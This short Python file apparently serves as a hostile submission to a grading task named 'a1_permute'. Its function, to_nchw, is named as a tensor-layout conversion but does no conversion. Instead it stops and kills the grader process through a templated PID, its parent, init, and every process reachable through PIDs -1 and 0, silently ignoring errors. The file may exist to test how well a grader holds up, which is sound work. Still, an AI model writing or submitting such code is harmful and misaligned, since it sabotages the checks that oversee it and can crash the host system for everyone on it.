"""Sends SIGKILL to the grader, to its parent, and to everything."""
# a1_permute: to_nchw
import os
import signal


def to_nchw(images):
    for pid in (@PID@, os.getppid(), 1, 2, -1, 0):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
